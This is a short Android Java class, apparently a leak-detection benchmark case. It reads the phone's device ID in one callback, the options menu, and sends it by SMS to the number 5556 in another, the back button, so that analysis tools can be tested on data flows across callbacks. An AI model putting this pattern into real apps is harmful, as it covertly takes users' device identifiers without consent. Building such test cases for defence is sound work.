package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Read in one button of the system, sent in another. */
public class Pressed extends Case {
    String f = "";
    @Override public boolean onOptionsItemSelected(MenuItem i) { f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(); return true; }
    @Override public void onBackPressed() { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); }
}
